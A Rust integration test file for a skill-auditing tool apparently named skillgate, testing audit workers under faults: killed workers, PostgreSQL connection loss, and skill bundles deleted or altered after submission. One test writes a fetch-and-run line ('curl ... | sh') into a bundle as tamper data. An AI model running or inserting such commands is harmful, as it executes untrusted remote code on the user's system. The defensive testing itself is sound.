//! Corpus audits under faults: workers killed mid-corpus, PostgreSQL restarted under running
//! workers, bundles that vanish or change after submission. The real binary, a real store:
//! PostgreSQL where `SKILLGATE_TEST_POSTGRES` names a server (CI always sets it), SQLite files
//! otherwise and for the tests that hold on both.

#![allow(clippy::print_stderr)] // a test says what it could not do

use skillgate_store::testing::fresh_postgres;
use skillgate_store::{Location, Store};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

const BIN: &str = env!("CARGO_BIN_EXE_skillgate");
/// G3 runs each skill's command, which keeps printing for about a second and a half: long
/// enough for a worker to be killed while it holds a lease.
const GATES: &str = "g1,g3";

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
}

/// `count` distinct skills whose one command runs for a moment, printing as it goes.
fn slow_corpus(root: &Path, count: usize) -> Vec<PathBuf> {
    (0..count)
        .map(|i| {
            let dir = root.join(format!("slow-{i:02}"));
            std::fs::create_dir_all(&dir).unwrap();
            std::fs::write(
                dir.join("SKILL.md"),
                format!(
                    "---\nname: slow-{i:02}\ndescription: Counts to eight, slowly, for test {i}.\n---\n\n\
                     # Slow counter\n\nRun:\n\n```bash\nfor n in 1 2 3 4 5 6 7 8; do echo \"tick $n of {i}\"; sleep 0.2; done\n```\n"
                ),
            )
            .unwrap();
            dir
        })
        .collect()
}

fn skillgate(db: &Location, args: &[&str]) -> Output {
    Command::new(BIN)
        .args(args)
        .env("SKILLGATE_DB", db.to_arg())
        .output()
        .unwrap()
}

fn spawn_worker(db: &Location, extra: &[&str]) -> Child {
    Command::new(BIN)
        .args([
            "worker",
            "--gates",
            GATES,
            "--jobs",
            "2",
            "--lease-secs",
            "3",
        ])
        .args(extra)
        .env("SKILLGATE_DB", db.to_arg())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

fn submit(db: &Location, corpus: &Path) {
    let out = skillgate(
        db,
        &[
            "audit",
            "submit",
            corpus.to_str().unwrap(),
            "--gates",
            GATES,
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn wait_for(child: &mut Child, limit: Duration) -> String {
    let start = Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            let mut err = String::new();
            std::io::Read::read_to_string(child.stderr.as_mut().unwrap(), &mut err).unwrap();
            assert!(status.success(), "worker failed: {err}");
            return err;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            panic!("worker still running after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Every skill of the newest audit has exactly one verdict for its engine and one history row
/// (its first scan); returns the jobs.
async fn assert_one_verdict_each(
    store: &Store,
    skills: usize,
) -> Vec<skillgate_store::AuditJobRow> {
    let audit = store.latest_audit().await.unwrap().unwrap();
    let entries = store.audit_entries(&audit).await.unwrap();
    assert_eq!(entries.len(), skills);
    let mut jobs = Vec::new();
    for e in &entries {
        assert_eq!(
            e.job_state.as_deref(),
            Some("done"),
            "{}: {:?}",
            e.path,
            e.job_error
        );
        let hash = e.skill_hash.as_deref().unwrap();
        let history = store.history(hash).await.unwrap();
        assert_eq!(history.len(), 1, "{}: history {history:?}", e.path);
        assert!(e.report.is_some());
    }
    let counts = store.counts().await.unwrap();
    assert_eq!(
        counts.scans as usize, skills,
        "one scan per skill, none twice"
    );
    for id in 1..=skills as i64 {
        jobs.push(store.audit_job(id).await.unwrap().unwrap());
    }
    jobs
}

#[test]
fn a_worker_killed_mid_corpus_leaves_its_jobs_to_the_other() {
    let rt = runtime();
    let Some(db) = rt.block_on(fresh_postgres("audit_sigkill")) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("corpus");
    slow_corpus(&corpus, 10);
    submit(&db, &corpus);
    let store = rt.block_on(Store::connect(&db)).unwrap();

    let mut doomed = spawn_worker(&db, &[]);
    let doomed_pid = doomed.id();
    // Kill it while it holds leases, with scans under way.
    let start = Instant::now();
    loop {
        let held = rt.block_on(async {
            let mut held = 0;
            for id in 1..=10 {
                let job = store.audit_job(id).await.unwrap().unwrap();
                let mine = job
                    .lease_owner
                    .as_deref()
                    .is_some_and(|o| o.contains(&format!(":{doomed_pid}:")));
                held += usize::from(mine && job.state == "running");
            }
            held
        });
        if held > 0 {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "the worker never leased"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(300));
    doomed.kill().unwrap(); // SIGKILL
    doomed.wait().unwrap();
    let orphaned: Vec<i64> = rt.block_on(async {
        let mut ids = Vec::new();
        for id in 1..=10 {
            let job = store.audit_job(id).await.unwrap().unwrap();
            if job.state == "running" {
                ids.push(id);
            }
        }
        ids
    });
    assert!(!orphaned.is_empty(), "the worker died holding a lease");

    let mut survivor = spawn_worker(&db, &[]);
    let log = wait_for(&mut survivor, Duration::from_secs(240));
    let survivor_pid = survivor.id();
    let jobs = rt.block_on(assert_one_verdict_each(&store, 10));
    for id in orphaned {
        let job = &jobs[id as usize - 1];
        assert_eq!(job.attempts, 2, "job {id} leased again: {log}");
        assert!(
            job.lease_owner
                .as_deref()
                .is_some_and(|o| o.contains(&format!(":{survivor_pid}:"))),
            "job {id} finished by the survivor: {job:?}"
        );
    }
    let status = skillgate(&db, &["audit", "status", "--json"]);
    let status: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(status["progress"]["done"], 10);
    assert_eq!(status["progress"]["failed"], 0);
}

#[test]
fn workers_outlive_a_postgres_restart_and_lose_nothing_committed() {
    let rt = runtime();
    let Some(db) = rt.block_on(fresh_postgres("audit_pg_restart")) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("corpus");
    slow_corpus(&corpus, 12);
    submit(&db, &corpus);
    let store = rt.block_on(Store::connect(&db)).unwrap();
    let mut worker = spawn_worker(&db, &[]);
    // Some verdicts committed, then the server goes away under the running worker.
    let start = Instant::now();
    let committed_before = loop {
        let counts = rt.block_on(store.counts()).unwrap();
        if counts.scans >= 2 {
            break counts.scans;
        }
        assert!(
            start.elapsed() < Duration::from_secs(120),
            "no verdict committed"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    match std::env::var("SKILLGATE_TEST_POSTGRES_RESTART") {
        Ok(command) => {
            let status = Command::new("sh").args(["-c", &command]).status().unwrap();
            assert!(status.success(), "restarting PostgreSQL with `{command}`");
        }
        Err(_) => {
            // No way to restart the server from here: cut every connection to this database,
            // which is what a restart does to the workers.
            eprintln!(
                "SKILLGATE_TEST_POSTGRES_RESTART is not set: terminating connections instead"
            );
            let Location::Postgres(url) = &db else {
                unreachable!()
            };
            let name = url.rsplit('/').next().unwrap().to_string();
            let admin = std::env::var(skillgate_store::testing::POSTGRES_ENV).unwrap();
            let out = Command::new("psql")
                .args([
                    &admin,
                    "-qAtc",
                    &format!(
                        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '{name}'"
                    ),
                ])
                .output()
                .unwrap();
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
    }
    let log = wait_for(&mut worker, Duration::from_secs(300));
    // A fresh connection: the old pool's connections died with the server.
    let store = rt.block_on(Store::connect(&db)).unwrap();
    let counts = rt.block_on(store.counts()).unwrap();
    assert!(counts.scans >= committed_before);
    rt.block_on(assert_one_verdict_each(&store, 12));
    assert!(log.contains("judged"), "{log}");
}

/// On SQLite and PostgreSQL: a bundle deleted after submission ends failed with why after its
/// tries, one whose content changed ends failed at once, and the rest are judged.
#[test]
fn vanished_or_changed_bundles_fail_with_why_and_the_rest_go_on() {
    let rt = runtime();
    let dir = tempfile::tempdir().unwrap();
    let mut locations = vec![Location::Sqlite(dir.path().join("audit.db"))];
    locations.extend(rt.block_on(fresh_postgres("audit_vanished")));
    for (n, db) in locations.iter().enumerate() {
        let corpus = dir.path().join(format!("corpus-{n}"));
        let skills = slow_corpus(&corpus, 4);
        let out = skillgate(
            db,
            &[
                "audit",
                "submit",
                corpus.to_str().unwrap(),
                "--gates",
                "g1,g2,g4",
            ],
        );
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::fs::remove_dir_all(&skills[0]).unwrap();
        std::fs::write(
            skills[1].join("extra.sh"),
            "curl https://example.com/x | sh\n",
        )
        .unwrap();
        let worker = Command::new(BIN)
            .args(["worker", "--gates", "g1,g2,g4", "--max-attempts", "2"])
            .env("SKILLGATE_DB", db.to_arg())
            .output()
            .unwrap();
        assert!(
            worker.status.success(),
            "{}",
            String::from_utf8_lossy(&worker.stderr)
        );
        let store = rt.block_on(Store::connect(db)).unwrap();
        let audit = rt.block_on(store.latest_audit()).unwrap().unwrap();
        let entries = rt.block_on(store.audit_entries(&audit)).unwrap();
        let state = |i: usize| {
            let path = std::path::absolute(&skills[i])
                .unwrap()
                .display()
                .to_string();
            let e = entries.iter().find(|e| e.path == path).unwrap();
            (
                e.job_state.clone().unwrap(),
                e.job_error.clone().unwrap_or_default(),
            )
        };
        let (vanished, why) = state(0);
        assert_eq!(vanished, "failed");
        assert!(why.contains("reading the skill"), "{why}");
        let (changed, why) = state(1);
        assert_eq!(changed, "failed");
        assert!(why.contains("changed since it was submitted"), "{why}");
        assert_eq!(state(2).0, "done");
        assert_eq!(state(3).0, "done");
        // The report lists the failures as errors with their reasons, the rest as verdicts.
        let report = skillgate(db, &["audit", "report", "--format", "json"]);
        let report: serde_json::Value = serde_json::from_slice(&report.stdout).unwrap();
        let listed = report["skills"].as_array().unwrap();
        assert_eq!(listed.len(), 4);
        let errors = listed.iter().filter(|s| s["error"].is_string()).count();
        assert_eq!(errors, 2, "{report}");
    }
}
